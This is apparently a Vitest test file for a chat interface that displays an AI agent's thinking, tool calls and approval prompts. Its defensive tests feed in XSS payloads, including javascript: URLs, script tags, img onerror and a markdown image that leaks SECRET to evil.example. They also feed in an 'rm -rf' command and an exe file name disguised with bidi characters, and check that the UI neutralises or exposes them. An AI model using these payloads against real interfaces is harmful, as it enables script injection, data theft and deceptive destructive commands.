// @vitest-environment happy-dom
/** Thinking and tool cards: what they say at every point of a run, that a press stays, and what an answer has used. */
import { createHash } from 'node:crypto'
import { act } from 'react'
import { expect, test, vi } from 'vitest'
import type { Actions } from '../../../src/client/store/state.ts'
import { StoreProvider } from '../../../src/client/store/react.ts'
import { ThreadView } from '../../../src/client/views/thread/thread-view.tsx'
import { createRunStory } from '../../support/run-story.ts'
import { createStage, runOf, thread, tokenOf, viewOf } from '../store/fixtures.ts'
import { useHost } from './host.ts'

const host = useHost()

/** A thread whose one run is told bit by bit. */
async function watch() {
  const stage = createStage()
  const story = createRunStory({ thread })
  const token = tokenOf('run-1')
  stage.claim(token)
  story.message()
  const shows = async () => {
    await act(async () => {
      stage.sink.applyEvents(token, viewOf(story.transcript()))
      stage.frames.draw()
    })
  }
  await shows()
  const answers: unknown[] = []
  const actions = { answer: async (...answer: unknown[]) => void answers.push(answer) } as unknown as Actions
  await host.render(<StoreProvider store={stage.store} actions={actions}><ThreadView thread={thread} /></StoreProvider>)
  const part = (id: string) => host.element.querySelector(`[data-part=${id}]`) as HTMLElement
  return {
    story, shows, part, answers,
    /** The run ends, and the page has the server's record of it. */
    async ends(...how: Parameters<typeof story.end>) {
      story.end(...how)
      await shows()
      await act(async () => stage.sink.finalize(token, { kind: 'settled', run: runOf(story.transcript()), messages: story.transcript().messages }))
    },
    /** What a call says of itself: its state, and its one line. */
    says: (id: string) => [part(id).dataset['status'], part(id).querySelector('button')?.textContent],
    head: (id: string) => act(async () => part(id).querySelector<HTMLElement>('button')?.click()),
    isOpen: (id: string) => part(id).querySelector('button')?.getAttribute('aria-expanded') === 'true',
  }
}

test('a tool card names its call, sums up its input, and follows it from its first word to its end', async () => {
  const { story, shows, says, part, head } = await watch()
  story.part('t1', 'tool', { name: 'read_file', call: 'c1' })
  story.delta('t1', '{"path": "tides', 'input')
  await shows()
  expect(says('t1')).toEqual(['preparing', expect.stringMatching(/^Read filetidesPreparing\d+ s$/)])
  story.delta('t1', '.txt"}', 'input')
  await shows()
  expect(says('t1')).toEqual(['running', expect.stringMatching(/^Read filetides\.txtRunning\d+ s$/)])
  story.request('a1', 't1')
  await shows()
  expect(says('t1')[0]).toBe('waiting')
  story.answer('a1')
  story.endPart('t1', 'done', { output: 'x'.repeat(2_000) })
  await shows()
  expect(says('t1')).toEqual(['done', expect.stringMatching(/^Read filetides\.txtDone0\.\d s$/)])

  await head('t1')
  // What it holds is fetched when the first card is opened.
  await vi.waitFor(async () => {
    await act(async () => undefined)
    expect(part('t1').textContent).toContain('"path": "tides.txt"')
  })
  expect(part('t1').textContent).toContain('Output2K characters')
  expect(part('t1').textContent).toContain(`${'x'.repeat(1600)}…`)
  expect(part('t1').textContent).not.toContain('x'.repeat(1601))
  await host.press('Show all 2K characters')
  expect(part('t1').textContent).toContain('x'.repeat(2_000))
  await host.press('Show less')
  expect(part('t1').textContent).not.toContain('x'.repeat(1601))
  host.button('Copy input', part('t1'))
  host.button('Copy output', part('t1'))
})

test('a call that failed says why, one that was denied says so, and what a sub-agent says stands below its caller', async () => {
  const { story, shows, says, part, head } = await watch()
  story.part('f1', 'tool', { name: 'search', call: 'c1' })
  story.endPart('f1', 'failed', { input: '{"query":"tide"}', error: 'No network.' })
  story.part('t2', 'tool', { name: 'delete', call: 'c2' })
  story.endPart('t2', 'denied')
  story.part('t3', 'tool', { name: 'ask_expert', call: 'c3' })
  story.message('m-expert', 't3')
  story.part('p9')
  story.delta('p9', 'I am the expert.')
  await shows()
  expect([says('f1')[0], says('t2')[0], says('t3')[0]]).toEqual(['failed', 'denied', 'preparing'])
  await head('f1')
  expect(part('f1').textContent).toContain('No network.')
  expect(part('t3').querySelector('article [data-part=p9]')?.textContent).toBe('I am the expert.')
})

test('Stop leaves text, thinking and cards as they are, each marked as stopped, and nothing runs on', async () => {
  const { story, shows, says, part, isOpen, ends } = await watch()
  story.part('s2', 'thinking')
  story.delta('s2', 'The moon pulls.')
  story.part('s1', 'tool', { name: 'search', call: 'c1' })
  story.delta('s1', '{"query":"tide"}', 'input')
  story.part('p1')
  story.delta('p1', 'It is')
  await shows()
  expect(says('s1')[0]).toBe('running')
  for (const id of ['s2', 's1', 'p1']) story.endPart(id, 'stopped')
  await ends('cancelled')
  expect(['s2', 's1', 'p1'].map((id) => part(id).dataset['state'])).toEqual(['stopped', 'stopped', 'stopped'])
  expect(part('s2').textContent).toMatch(/^Thought for .*, then stoppedThe moon pulls\.$/)
  expect(isOpen('s2')).toBe(true)
  expect(says('s1')).toEqual(['stopped', expect.stringMatching(/^SearchtideStopped/)])
  expect(part('p1').textContent).toBe('It is')
  expect(host.element.querySelector('[data-elapsed]')).toBeNull()
})

test('a thought folds when it is done, unless somebody touched it: then it stays as they left it', async () => {
  const { story, shows, head, isOpen, ends } = await watch()
  for (const id of ['k1', 'k2', 'k3']) {
    story.part(id, 'thinking')
    story.delta(id, 'Hm.')
  }
  await shows()
  expect(['k1', 'k2', 'k3'].map(isOpen)).toEqual([true, true, true])
  await head('k2') // closed
  await head('k3') // closed, and
  await head('k3') // opened again
  for (const id of ['k1', 'k2', 'k3']) story.endPart(id)
  await shows()
  expect(['k1', 'k2', 'k3'].map(isOpen)).toEqual([false, false, true])
  await ends()
  expect(['k1', 'k2', 'k3'].map(isOpen)).toEqual([false, false, true])
})

test('tokens and cost go up while it runs, and end at what the server counted', async () => {
  const { story, shows, ends } = await watch()
  story.part('p1')
  story.delta('p1', 'Tides')
  const used = () => host.element.querySelector('button[aria-haspopup=dialog]')?.textContent
  await shows()
  expect(used()).toMatch(/^\d+ s$/)
  story.progress({ usage: { outputTokens: 120, cost: 0.002 }, modelCalls: 1, toolCalls: 0, messages: 1 })
  await shows()
  expect(used()).toMatch(/^\d+ s · 120 tokens · \$0\.002$/)
  await ends('completed', { usage: { outputTokens: 470, cost: 0.0123 } })
  expect(used()).toMatch(/^0\.1 s · 470 tokens · \$0\.0123$/)
})

test('a message that is damaged on the server’s disk says so in its place, the question as the answer', async () => {
  const stage = createStage()
  const story = createRunStory({ thread })
  const token = tokenOf('run-1')
  stage.claim(token)
  story.message()
  story.end()
  await host.render(<StoreProvider store={stage.store} actions={{} as Actions}><ThreadView thread={thread} /></StoreProvider>)
  const messages = story.transcript().messages.map((message) => ({ ...message, damaged: true as const, parts: [] }))
  await act(async () => stage.sink.finalize(token, { kind: 'settled', run: runOf(story.transcript()), messages }))
  const said = [...host.element.querySelectorAll('article')].map((article) => article.textContent)
  expect(said).toHaveLength(messages.length)
  for (const one of said) expect(one).toContain('This message is damaged')
})

test('what a hostile agent calls a source, a file or a tool is text: no link runs a script, nothing is fetched, nothing is pressed for the person', async () => {
  const { story, shows } = await watch()
  const urls = ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'https://good.example/> <img src=x onerror=alert(1)> ![x](https://evil.example/?q=SECRET) <x']
  for (const [i, url] of urls.entries()) story.part(`s${i}`, 'source', { title: '<b>', url })
  story.part('f1', 'file', { name: '<img src=x onerror=alert(1)>' })
  story.part('t1', 'tool', { name: '<script>alert(1)</script>', call: 'c1' })
  story.delta('t1', '{"url": "javascript:alert(1)"}', 'input')
  await shows()
  expect(host.element.querySelectorAll('script, iframe, object, embed, img, form, meta, base')).toHaveLength(0)
  for (const link of host.element.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^(https?:|\/|#)/)
  for (const element of host.element.querySelectorAll('*')) for (const { name } of element.attributes) expect(name).not.toMatch(/^on/)
})

test('a decision says which run and call it is about, and by its hash the input that was on the card', async () => {
  const { story, shows, answers } = await watch()
  story.part('t1', 'tool', { name: 'shell', call: 'c1' })
  story.request('a1', 't1', { question: 'May I?', input: '{ "rm": "ä" }' })
  await shows()
  await host.press('Deny')
  expect(answers).toEqual([[thread, 'run-1', 'a1', { decision: 'deny', inputHash: createHash('sha256').update('{ "rm": "ä" }').digest('hex') }]])
})

test('characters that nobody sees are named in what a reader decides by: a file’s name, a call and its input, what is to be approved; the text itself stays', async () => {
  const { story, shows, part } = await watch()
  const turned = 'rm -rf \u202e/pmt/ eb ot\u202c'
  story.part('f1', 'file', { name: 'photo\u202egpj.exe' })
  story.part('t1', 'tool', { name: 'sh\u200bell', call: 'c1' })
  story.delta('t1', JSON.stringify({ command: turned }), 'input')
  story.request('a1', 't1', { question: `May I run ${turned}?`, input: JSON.stringify({ command: turned }) })
  await shows()
  const hidden = (within: Element | null) => [...(within?.querySelectorAll('[data-hidden]') ?? [])].map((mark) => mark.getAttribute('data-hidden'))
  const card = host.element.querySelector('[data-approval=a1]')
  expect(hidden(part('t1').querySelector('button'))).toEqual(['ZWSP', 'RLO', 'PDF'])
  expect(hidden(card?.querySelector('p') ?? null)).toEqual(['RLO', 'PDF'])
  expect(hidden(card?.querySelector('pre') ?? null)).toEqual(['RLO', 'PDF'])
  expect(card?.querySelector('pre')?.textContent).toBe(JSON.stringify({ command: turned }, null, 2))
  expect(hidden(part('f1'))).toContain('RLO')
  expect(part('f1').textContent).toContain('photo\u202egpj.exe')
})
